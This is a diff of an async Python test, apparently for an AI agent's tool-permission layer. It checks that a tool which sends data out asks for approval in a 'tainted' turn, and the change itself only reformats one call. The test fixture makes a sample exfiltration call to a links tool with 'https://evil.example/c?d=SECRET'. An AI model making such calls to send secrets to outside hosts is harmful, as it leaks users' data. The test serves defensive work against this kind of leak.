@@ -134,9 +134,7 @@ async def test_every_address_in_one_value_counts(database_url: str, tmp_path: Pa
 async def test_a_url_in_any_argument_of_a_tool_that_sends_out_asks_in_a_tainted_turn(
     database_url: str, tmp_path: Path, argument: str
 ) -> None:
-    settings = settings_for(
-        database_url, tmp_path, kinds_file=kinds_file(tmp_path, sends_out=True)
-    )
+    settings = settings_for(database_url, tmp_path, kinds_file=kinds_file(tmp_path, sends_out=True))
     links = LinksToolset(argument)
     visit = toolkit.call(
         "mcp-links__visit", {argument: "https://evil.example/c?d=SECRET", "note": "x"}
